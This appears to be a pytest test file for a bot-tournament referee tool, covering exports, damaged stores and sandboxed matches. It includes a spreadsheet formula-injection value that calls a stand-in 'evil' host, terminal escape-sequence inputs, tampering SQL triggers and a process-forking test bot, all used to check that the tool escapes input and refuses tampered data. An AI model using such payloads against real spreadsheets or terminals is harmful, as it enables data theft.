    fixed = commands.run("standings", *files, "--anchor", "new=1000", "--exclude", "minimal")
    assert "without minimal" in fixed
    assert "Elo, new fixed in every tournament." in fixed


TITLE = ("--title", "Class <9>\x1b")


def test_a_title_is_above_the_table_of_a_tournament(commands: Commands) -> None:
    shown = commands.tournament(*BOTS, "--deals", "1", *TITLE)
    assert shown.startswith("Class <9>?\ndominion, ")


@pytest.mark.parametrize("count", [1, 2])
def test_a_title_is_above_every_table_of_stores(count: int, commands: Commands) -> None:
    words = ("standings", *two_weeks(commands)[:count])
    plain = commands.run(*words)
    assert commands.run(*words, *TITLE) == f"Class <9>?\n{plain}"
    page = commands.run(*words, *TITLE, "--format", "html")
    assert "<h1>Class &lt;9&gt;?</h1>" in page
    assert "<title>Class &lt;9&gt;?</title>" in page
    found = json.loads(commands.run(*words, "--format", "json"))
    titled = json.loads(commands.run(*words, *TITLE, "--format", "json"))
    assert titled == {"title": TITLE[1], **found}


def test_standings_of_a_store_that_was_cut_off(commands: Commands) -> None:
    commands.most = 1
    commands.result = interrupting(4)
    commands.tournament(*BOTS, "--deals", "2", code=130)
    for form in ("text", "json", "csv", "html"):
        commands.run("standings", commands.store, "--format", form)
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert 0 < found["matches"] < found["planned"] == 12


def test_standings_while_it_runs(commands: Commands) -> None:
    seen: list[int] = []

    def result(plan: Plan) -> MatchRow:
        if plan.match >= 4:  # by now some matches are in the store
            with Store.for_reading(commands.store) as store:
                seen.append(store.count()[0])
        return row(plan)

    commands.most = 1
    commands.result = result
    commands.tournament(*BOTS, "--deals", "3")
    assert seen == sorted(seen)
    assert 0 < seen[-1] < 18


@pytest.mark.parametrize(("more", "are_too_many"), [(0, False), (1, True)])
def test_more_jobs_than_cores_can_make_bots_late(
    more: int, are_too_many: bool, commands: Commands
) -> None:
    commands.tournament(*BOTS, "--deals", "1", "--jobs", str(cores() + more))
    assert ("bots may time out since the machine is busy" in commands.err) == are_too_many


@pytest.mark.parametrize("is_folder", [False, True])
def test_a_bot_that_has_played_all_its_matches_may_be_gone(
    is_folder: bool, commands: Commands, tmp_path: Path
) -> None:
    names = ["a", "b", "c"]
    for name in names:
        if is_folder:
            (tmp_path / name).mkdir()
            (tmp_path / name / "bot.toml").write_text('command = "./run"\n')
            (tmp_path / name / "run").touch(0o700)
        else:
            (tmp_path / name).touch(0o700)
    words = [*(f"./{name}" for name in names), "--deals", "1", "--jobs", "1"]
    playing: set[int] = set()

    def result(plan: Plan) -> MatchRow:
        playing.update(plan.players if plan.match == 4 else ())
        return interrupting(4)(plan)

    commands.result, commands.most = result, 1
    commands.tournament(*words, code=130)
    (has_played,) = {0, 1, 2} - playing
    (tmp_path / names[has_played] / ("bot.toml" if is_folder else "")).unlink()
    commands.result = row
    commands.tournament(*words)
    assert commands.played == [5]


def test_live_records_of_a_run_that_was_killed_are_gone_before_the_first_match(
    commands: Commands, tmp_path: Path
) -> None:
    words = [*BOTS, "--records", "records"]
    commands.tournament(*words, "--deals", "1")
    left_behind = tmp_path / "records" / "000000.live.jsonl"
    left_behind.touch()  # the match was stored, and its live record not yet removed
    seen: list[bool] = []

    def result(plan: Plan) -> MatchRow:
        seen.append(left_behind.exists())
        return row(plan)

    commands.result = result
    commands.tournament(*words, "--deals", "2", "--extend")
    assert set(seen) == {False}


def test_the_anchor(commands: Commands) -> None:
    out = commands.tournament(*BOTS, "--deals", "2", "--anchor", "new=-100.5", "--format", "json")
    for text in (
        out,
        commands.run("standings", commands.store, "--anchor", "new=-100.5", "--format", "json"),
    ):
        found = json.loads(text)
        (rating,) = [bot["rating"] for bot in found["bots"] if bot["name"] == "new"]
        assert rating == -100.5
        assert found["anchor"] == "new"


def test_a_bot_can_be_named_as_the_table_shows_it(commands: Commands, tmp_path: Path) -> None:
    (tmp_path / "my_bot.py").touch()
    words = ["--bot", "my_bot.py", "--anchor", "my_bot.py=1000"]
    out = commands.tournament("./my_bot.py", *BOTS, "--deals", "2", *words)
    assert re.search(r"^. my_bot\.py +1000 ", out, re.MULTILINE)
    assert "my_bot.py: rank " in out.replace("./my_bot.py", "")
    page = commands.run("standings", commands.store, "--format", "html")
    assert "<bdi>my_bot.py</bdi>" in page
    assert "<bdi>./my_bot.py" not in page
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    names = {bot["name"] for bot in found["bots"]}
    assert names == {"my_bot.py", *BOTS[:-1], "new"}
    assert found["shown"] == {name: name for name in names}
    assert "./my_bot.py" not in commands.run("export", commands.store)
    out = commands.run("standings", commands.store, "--exclude", "my_bot.py")
    assert "without my_bot.py" in " ".join(out.split())
    commands.run("standings", commands.store, "--exclude", "./my_bot.py", *words[:2], code=2)
    assert "--bot my_bot.py: --exclude leaves this bot out" in commands.err


@pytest.mark.parametrize("name", ["my_bot.py", "./my_bot.py"])
def test_a_bot_is_withdrawn_by_either_name(name: str, commands: Commands, tmp_path: Path) -> None:
    (tmp_path / "my_bot.py").touch()
    words = ["./my_bot.py", *BOTS, "--deals", "2"]
    commands.tournament(*words)
    out = commands.tournament(*words[1:], "--withdraw", name)
    assert "my_bot.py is withdrawn by --withdraw" in out
    assert "is withdrawn" not in commands.tournament(*words, "--reinstate", name)


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (["standings", "none"], "cannot read none: no such file"),
        (["standings", "diary"], "cannot use diary as a store: file is not a database"),
        (["export", "none"], "cannot read none: no such file"),
        (["standings", "empty"], "empty is empty: no tournament has begun in it"),
        (["export", "empty"], "empty is empty: no tournament has begun in it"),
        (["verify", "--store", "empty"], "empty is empty: no tournament has begun in it"),
        (["standings", "night.sqlite", "--anchor", "x=1"], "--anchor x=1: give BOT=RATING"),
        (["standings", "night.sqlite", "--bot", "x"], "--bot x: there are: minimal"),
        (["standings", "night.sqlite", "--follow", "--format", "csv"], "--follow shows text"),
        (["standings", "night.sqlite", "--follow", "--output", "x"], "--follow shows text on the"),
        (["standings", "night.sqlite", "--title", "x", "--format", "csv"], "--title goes with"),
        (
            ["standings", "night.sqlite", "--statistics", "--format", "csv"],
            "--statistics goes with",
        ),
        (["standings", "night.sqlite", "night.sqlite"], "night.sqlite is given twice"),
        (["standings", "night.sqlite", "x", "--bot", "x"], "--bot shows one tournament: give one"),
        (["standings", "night.sqlite", "x", "--statistics"], "--statistics shows one tournament"),
        (["standings", "night.sqlite", "x", "--follow"], "--follow shows one tournament: give one"),
        (["standings", "night.sqlite", "none"], "cannot read none: no such file"),
        (["verify", "--store", "night.sqlite", "--log", "x"], "--store cannot be used with RECORD"),
        (
            ["verify", "--store", "night.sqlite", "--records", "none"],
            "--records none: the folder does not exist",
        ),
    ],
)
def test_wrong_usage(commands: Commands, words: list[str], says: str) -> None:
    commands.stored(*BOTS, "--deals", "1")
    Path("diary").write_text("dear diary\n" * 100)
    Path("empty").touch()
    assert commands.run(*words, code=2) == ""
    assert says in one_line(commands.err)


@pytest.mark.parametrize("seed", range(4))
def test_a_damaged_store_is_one_line(commands: Commands, seed: int) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    whole = Path(commands.store).read_bytes()
    chance = Random(seed)
    Path("cut").write_bytes(whole[: chance.randrange(len(whole))])
    changed = bytearray(whole)
    at, length = chance.randrange(len(whole) - 400), chance.randrange(1, 400)
    changed[at : at + length] = chance.randbytes(length)
    Path("changed").write_bytes(changed)
    for name in ("cut", "changed"):
        for words in (["standings", "--format", "json"], ["export"]):
            code = cli.main([*words, name])
            _, err = commands.said()
            assert code in (0, 2)
            if code:
                assert name in one_line(err)


STAGES = "UPDATE about SET value = replace(value, {}, {}) WHERE key = 'stages'"
SEAT = "UPDATE seats SET {} WHERE match = 3 AND seat = 1"
MATCH = "UPDATE matches SET {} WHERE match = 3"


@pytest.mark.parametrize(
    ("edit", "says"),
    [
        ("UPDATE about SET value = '[]' WHERE key = 'stages'", "about, stages: there are none"),
        ("UPDATE about SET value = x'00' WHERE key = 'stages'", "about, stages: Expected `str`"),
        ("DELETE FROM about WHERE key = 'stages'", "about, stages: Expected"),
        (STAGES.format("'dominion'", "'goBd'"), "is of the game 'goBd'; if it is a game of your"),
        (STAGES.format("'\"players\":2'", "'\"players\":0'"), "stages: incomplete settings"),
        (STAGES.format("'\"players\":2'", "'\"players\":200000000'"), "has 2 to 4"),
        (STAGES.format("'\"deals\":2'", "'\"deals\":-2'"), "about, stages: Expected `int` >= 1"),
        (STAGES.format("'\"max_turns\":500'", "'\"max_turns\":[]'"), "about, stages: "),
        ("DELETE FROM bots", "table bots, bot 0: it differs from the stages"),
        ("UPDATE bots SET name = 'x' || char(27) WHERE bot = 1", "table bots, bot 1: "),
        ("DELETE FROM matches WHERE match = 3", "match 3: it has no row in matches"),
        (MATCH.format("match = -5"), "matches, match -5: match: Expected `int` >= 0"),
        (MATCH.format("match = 1000000000000000"), "match 1000000000000000: it is not of deal"),
        (MATCH.format("match = 13, deal = 6"), "match 13: it has no row in seats"),
        (MATCH.format("deal = 999999999999"), "match 3: deal: Expected `int` <= 4294967295"),
        (MATCH.format("seconds = 9e999"), "match 3: seconds: Expected `float` <= "),
        (MATCH.format("void = 'yes'"), "match 3: void: Expected `int`, got `str`"),
        ("DELETE FROM seats", "match 0: it has no row in seats"),
        (
            "DELETE FROM seats WHERE match = 3 AND seat = 1",
            "match 3: its rows are not seats",
        ),
        (SEAT.format("rank = 'x'"), "seats, match 3, seat 1: rank: Expected `int`, got `str`"),
        (SEAT.format("rank = 3"), "match 3: its rows are not seats 0 to 1"),
        (SEAT.format("bot = 99"), "match 3: its rows are not seats 0 to 1"),
        (SEAT.format("bot = (SELECT bot FROM seats WHERE match = 3)"), "match 3: its rows are not"),
        (SEAT.format("bot = (SELECT 3 - sum(bot) FROM seats WHERE match = 3)"), "has other bots"),
        (SEAT.format("score = 1 << 60"), "match 3, seat 1: score: Expected `int` <= "),
        (
            SEAT.format("faults = '{\"x\":[]}'"),
            "seat 1: faults: Expected `int`, got `array`",
        ),
        (SEAT.format("faults = x'7b7d'"), "match 3, seat 1: faults: Expected `str`, got `bytes`"),
        (
            SEAT.format("reply_histogram = '{\"99999\":5}'"),
            "reply_histogram: Expected `int` <=",
        ),
        (SEAT.format('statistics = \'{"bought":{"gold":[1]}}\''), "3, seat 1: statistics: "),
        ("DROP TABLE seats", "it does not have the tables of a store"),
        (
            "CREATE TRIGGER t AFTER INSERT ON seats BEGIN DELETE FROM bots; END",
            "does not have the tables",
        ),
        (
            "CREATE TRIGGER sqliteevil AFTER INSERT ON seats BEGIN DELETE FROM bots; END",
            "does not have the tables",
        ),
        ("UPDATE about SET value = '{\"new\":[1]}' WHERE key = 'versions'", "about, versions: Exp"),
    ],
)
def test_what_cannot_be_in_a_store_is_named(commands: Commands, edit: str, says: str) -> None:
    """Commands refuse a damaged store before they print anything or add matches to it."""
    before = edited(commands, edit)
    kept_by_the_game = "statistics" in edit  # only the details of a bot use the game's tables
    details = ["--bot", "minimal"] if kept_by_the_game else []
    assert commands.run("standings", commands.store, *details, code=2) == ""
    line = one_line(commands.err)
    is_other = "is of the game" in says or "the tables of a store" in line
    assert f"{commands.store} is damaged: table " in line or is_other
    assert says in line
    assert says in commands.refused(*BOTS, *TWO_DEALS, *details)
    assert kept_by_the_game or Path(commands.store).read_bytes() == before


TWO_DEALS = ["--deals", "2", "--seed", "1"]


def edited(commands: Commands, edit: str) -> bytes:
    commands.stored(*BOTS, *TWO_DEALS)
    with sqlite3.connect(commands.store) as connection:
        connection.execute(edit)
    connection.close()
    return Path(commands.store).read_bytes()


@pytest.mark.parametrize(
    "words", [["standings", "--bot", "minimal"], ["export"], ["verify", "-q", "--store"]]
)
def test_no_command_uses_a_damaged_store(words: list[str], commands: Commands) -> None:
    edited(commands, SEAT.format("bot = 99"))
    assert commands.run(*words, commands.store, code=2) == ""
    assert "match 3: its rows are not seats 0 to 1" in one_line(commands.err)


# --- export ---------------------------------------------------------------------------------------


def exported(plan: Plan) -> MatchRow:
    """A match with faults. In match 1 a bot is disqualified, and match 2 is void."""
    if plan.match == 2:
        return void(plan)
    out = [None, left("timeout")] if plan.match == 1 else [None, None]
    return row(plan, faults=[{}, {"bad-buy": 2, "no-json": 1}], left=out)


def test_export_as_csv(commands: Commands) -> None:
    commands.result = exported
    # Names that a shell would split are exported with quotes.
    names = {"plain": "plain"}
    names |= {name: shlex.quote(name) for name in ("two words", "it's", "a\\b")}
    tables = "".join(f"[[bot]]\nname = {json.dumps(name)}\ncommand = 'minimal'\n" for name in names)
    Path("night.toml").write_text(tables)
    commands.tournament("--config", "night.toml", "--deals", "1")
    lines = commands.run("export", commands.store).splitlines()
    assert lines[0].split(",") == COLUMNS
    rows = list(csv.DictReader(lines))
    assert [int(row["match"]) for row in rows] == [0, 1, *range(3, 12)]
    assert rows[0]["disqualified"] == "null null"
    assert rows[1]["disqualified"] == "null timeout"
    assert rows[1]["cause"] == "null null"
    assert {row["faults"] for row in rows} == {"0 3"}
    with Store.for_reading(commands.store) as store:
        known = store.names
        for found, line in zip(rows, (m for m in store.matches() if not m.void), strict=True):
            assert shlex.split(found["players"]) == [known[bot] for bot in line.players]
            assert [*map(int, found["ranks"].split())] == [*line.ranks]
            assert [*map(int, found["scores"].split())] == [*line.scores]
            assert float(found["seconds"]) == line.seconds
            for name in ("deal", "seed", "turns", "reason", "digest"):
                assert found[name] == str(getattr(line, name))
    used = {name for found in rows for name in names.values() if name in found["players"]}
    assert used == set(names.values())


FORMULA = '=HYPERLINK("http://evil/?"&A1)'


def test_what_a_stranger_calls_itself_neither_runs_nor_drives_a_terminal(
    commands: Commands,
) -> None:
    driving = "\x1b[2J\x9b\u202e\u2066\n"
    commands.result = lambda plan: row(
        plan,
        names=[FORMULA, f"@{driving}"],
        ranks=[1, 2],
        reason=f"-{driving}",
        digest=f"+{driving}",
        faults=[{}, {f"<b>{driving}": 1}],
        left=[None, left(f"{driving}=1")],
    )
    names = ["=x", "-y"]
    tables = "".join(f"[[bot]]\nname = '{name}'\ncommand = 'minimal'\n" for name in names)
    Path("night.toml").write_text(tables)
    seen = [commands.tournament("--config", "night.toml", "--deals", "1")]
    seen.append(commands.run("standings", commands.store, "--bot=-y"))
    seen.append(commands.run("standings", commands.store, "--format", "html"))
    seen.append(commands.run("standings", commands.store, "--format", "csv"))
    cells = [(bot["name"], bot["reported_name"]) for bot in csv.DictReader(seen[-1].splitlines())]
    assert [name for name, _ in sorted(cells)] == ["'-y", "'=x"]
    assert all(own[:2] in ("'=", "'@") for _, own in cells)
    seen.append(commands.run("export", commands.store))
    for match in csv.DictReader(seen[-1].splitlines()):
        assert match["players"] in ("'=x -y", "'-y =x")
        assert match["reason"] == r"'-\x1b[2J\x9b\u202e\u2066\n"
        assert match["digest"][:2] == "'+"
        assert match["ranks"] == "1 2"
    for text in seen:
        assert all(line.isprintable() for line in text.split("\n"))


def test_a_report_is_not_written_over_what_it_is_of(commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "1", "--seed", "1")
    before = Path(commands.store).read_bytes()
    Path("link").symlink_to(commands.store)
    for command in (["standings", commands.store], ["export", commands.store]):
        commands.run(*command, "--output", "link", code=2)
        assert f"link and {commands.store} are the same file" in one_line(commands.err)
    commands.run("verify", "--store", commands.store, "--output", commands.store, code=2)
    assert Path(commands.store).read_bytes() == before


@pytest.mark.parametrize(
    "words",
    [
        ["standings"],
        ["standings", "--format", "csv"],
        ["standings", "--format", "html"],
        ["export"],
        ["export", "--format", "jsonl"],
    ],
)
def test_output_names_the_file_that_is_written(
    commands: Commands, words: list[str], tmp_path: Path
) -> None:
    commands.stored(*BOTS, "--deals", "1", "--seed", "1")
    file = tmp_path / "report"
    command, *options = words
    printed = commands.run(command, commands.store, *options)
    assert commands.run(command, commands.store, *options, "--output", str(file)) == ""
    made = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d UTC")  # the two reports may differ by a minute
    assert made.sub("", file.read_text()) == made.sub("", printed)


def test_a_slip_of_the_keyboard_empties_no_report(commands: Commands, tmp_path: Path) -> None:
    file = tmp_path / "report"
    file.write_text("precious")
    commands.stored(*BOTS, "--deals", "1", "--seed", "1")
    done = referee("standings", commands.store, "--bot", "nobody", "--output", str(file))
    assert done.returncode == 2
    assert file.read_text() == "precious"


@pytest.mark.parametrize("command", [["standings", "--format", "html"], ["export"]])
def test_a_full_disk_leaves_no_half_of_a_report(
    commands: Commands, tmp_path: Path, command: list[str]
) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    folder = tmp_path / "reports"
    folder.mkdir()
    precious = f"{REPORT.marks[-1].decode()}precious"
    (folder / "old").write_text(precious)
    (folder / "old").chmod(0o600)
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    for name in ("new", "old"):
        words = [*command, commands.store, "--output", str(folder / name)]
        resource.setrlimit(resource.RLIMIT_FSIZE, (1_000, limits[1]))
        try:
            commands.run(*words, code=2)
        finally:
            resource.setrlimit(resource.RLIMIT_FSIZE, limits)
        assert f"cannot write {folder / name}: File too large" in one_line(commands.err)
    assert [path.name for path in folder.iterdir()] == ["old"]
    assert (folder / "old").read_text() == precious
    commands.run(*words)
    assert len((folder / "old").read_text()) > 1_000
    assert stat.S_IMODE((folder / "old").stat().st_mode) == 0o600
    assert [path.name for path in folder.iterdir()] == ["old"]


def test_export_as_jsonl(commands: Commands) -> None:
    commands.result = exported
    commands.tournament(*BOTS, "--deals", "1")
    rows = [
        json.loads(line)
        for line in commands.run("export", commands.store, "--format", "jsonl").splitlines()
    ]
    assert [row["match"] for row in rows] == [0, 1, 3, 4, 5]
    assert all([*row] == COLUMNS for row in rows)
    assert rows[1]["disqualified"] == [None, "timeout"]
    assert rows[1]["faults"] == [0, 3]
    assert set(rows[0]["players"]) < {"minimal", "big_money", "new"}
    assert all(isinstance(row["ranks"], list) for row in rows)


# --- with real matches ----------------------------------------------------------------------------


def test_watching_until_ctrl_c(commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    words = ("standings", commands.store, "--follow")
    with ForkedReferee(*words, stdout=subprocess.PIPE, text=True) as watching:
        assert watching.stdout is not None
        assert "12 of 12 matches" in watching.stdout.readline()
        watching.send_signal(signal.SIGINT)
        watching.communicate(timeout=60)
    assert watching.returncode == 130


@pytest.mark.parametrize("command", ["standings", "export"])
def test_a_reader_that_has_seen_enough(command: str, commands: Commands) -> None:
    commands.stored(*BOTS, "--deals", "2", "--seed", "1")
    reader, writer = os.pipe()
    os.close(reader)
    done = forked_referee(command, commands.store, stdout=writer)
    os.close(writer)
    assert (done.returncode, done.stderr) == (141, "")


@needs_bwrap
def test_real_matches_in_a_sandbox(tmp_path: Path) -> None:
    """The bots must not see the folder next to theirs, even though workers start them."""
    (tmp_path / "secret").touch()
    bot = tmp_path / "bots" / "bot.py"
    bot.parent.mkdir()
    minimal = Path(__file__).parents[3] / "example_bots" / "dominion" / "minimal.py"
    looks = "import os, sys\nprint(os.listdir('/bot'), os.path.exists(%r), file=sys.stderr)\n"
    bot.write_text(looks % str(tmp_path / "secret") + minimal.read_text())
    store, records = str(tmp_path / "bots" / "s.sqlite"), str(tmp_path / "records")
    words = ["tournament", "big_money", str(bot), "--deals", "2", "-q", "--seed", "3"]
    words += ["--store", store, "--records", records, "--keep-records", "all", "--record-stderr"]
    done = referee(*words, "--max-turns", "9", "--sandbox", "bwrap")
    assert (done.returncode, done.stderr) == (0, "")
    played = sorted(Path(records).glob("*.zst"))
    for file in played:
        header, *_ = map(json.loads, zstd.decompress(file.read_bytes()).splitlines())
        assert header["sandbox"] == "bwrap"
        assert sorted(header["names"]) == sorted(["big_money", str(bot)])
    said = [file.read_text() for file in Path(records).glob("*.stderr")]
    assert set(said) == {"['bot.py'] False\n"}
    assert len(played) == 4
    done = referee("verify", "--store", store, "--records", records, "--jobs", "1")
    assert done.returncode == 0


@needs_bwrap
def test_a_tournament_in_the_sandbox_says_what_no_limit_holds(
    commands: Commands, monkeypatch: pytest.MonkeyPatch
) -> None:
    words = ["minimal", "--deals", "1", "--sandbox", "bwrap", "--seed", "1"]
    programs = ["tournament", "sh ./bot.sh", *words, "--store", commands.store]
    monkeypatch.setattr(cgroups, "home", lambda: None)
    commands.run("tournament", "big_money", *words)
    assert "control groups" not in commands.err  # bundled bots need no limits
    commands.run(*programs)
    said = commands.err.splitlines()[0]
    assert said.startswith("referee: no control groups: a bot can exceed its memory")
    assert said.endswith(" --scope -p Delegate=yes referee tournament ...")
    assert "; sandbox bwrap\nwithout control groups\n" in commands.out
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert found["limits_by"] == ["rlimits"]
    monkeypatch.setattr(cgroups, "home", lambda: Home("cgroup-v2", {}))
    commands.run(*programs, "--extend", "--deals", "2")
    assert "control groups" not in commands.err
    found = json.loads(commands.run("standings", commands.store, "--format", "json"))
    assert found["limits_by"] == ["rlimits", "cgroup-v2"]


@needs_bwrap
@pytest.mark.skipif(home() is None, reason="there are no control groups")
def test_a_bot_that_reaches_its_limit_of_processes_and_plays_on(tmp_path: Path) -> None:
    fork = (
        "import os\ntry:\n    for _ in range(30):\n"
        "        os.fork() or (os.close(0), os.close(1), os.execvp('sleep', ['sleep', '60']))\n"
        "except OSError:\n    pass\n"
    )
    bot = tmp_path / "forker.py"
    minimal = Path(__file__).parents[3] / "example_bots" / "dominion" / "minimal.py"
    bot.write_text(fork + minimal.read_text())
    words = [
        "tournament",
        str(bot),
        "minimal",
        "--deals",
        "1",
        "-q",
        "--format",
        "json",
        "--max-turns",
        "4",
    ]
    done = referee(*words, "--process-limit", "12", "--sandbox", "bwrap", "--jobs", "1")
    bots = json.loads(done.stdout)["statistics"]["bots"]
    assert bots["forker.py"]["reached"] == {"process-limit": 1}  # `minimal` had started by then
    assert bots["minimal"]["reached"] == {}


@pytest.mark.slow
def test_real_matches_verify(tmp_path: Path) -> None:
    """Replaying and rerunning both confirm the results, and an edited result is found."""
    bot = tmp_path / "bot.py"
    source = (Path(__file__).parents[3] / "example_bots" / "dominion" / "minimal.py").read_text()
    bot.write_text(source)
    store, records = str(tmp_path / "s.sqlite"), tmp_path / "records"
    words = ["tournament", "big_money", f"mine={sys.executable} {bot}", "--deals", "1", "-q"]
    words += ["--store", store, "--jobs", "1", "--seed", "3", "--records", str(records)]
    words += ["--max-turns", "20"]
    done = referee(*words)
    assert (done.returncode, done.stderr) == (0, "")
    assert sorted(path.name for path in records.glob("*.zst")) == [
        "000000.record.jsonl.zst",
        "000001.record.jsonl.zst",
    ]
    (records / "000001.record.jsonl.zst").unlink()
    check = ["verify", "--store", store, "--jobs", "1", "--run-recorded"]
    done = referee(*check, "--records", str(records))
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == (
        "2 matches: 1 run again from their records and 1 played again are the same, 0 are not\n"
    )
    with sqlite3.connect(store) as connection:
        connection.execute("UPDATE matches SET digest = 'sha256:0' WHERE match = 0")
    connection.close()
    bot.write_text(source.replace('"silver": 3', '"silver": 4'))
    done = referee(*check)
    assert done.returncode == 1
    first, second, summary = done.stdout.splitlines()
    for number, line in enumerate((first, second)):
        assert line.startswith(f"match {number}: played again it went otherwise (digest sha256:")
    assert summary.endswith("0 played again are the same, 2 are not")
    done = referee(*check, "--records", str(records), "--sample", "1", "--format", "json")
    assert done.returncode == 1
    assert json.loads(one_line(done.stdout))["match"] in (0, 1)
    assert end_left_behind(5.0) == []


@pytest.mark.parametrize("room", [20, 40])
def test_too_few_descriptors_are_one_line(room: int) -> None:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (room, room))

    words = ("tournament", "minimal", "big_money", "--deals", "1")
    done = forked_referee(*words, preexec_fn=limit)
    assert done.returncode == 71
    assert (
        done.stderr
        == "referee: a match needs 48 file descriptors (ulimit -n): Too many open files\n"
    )
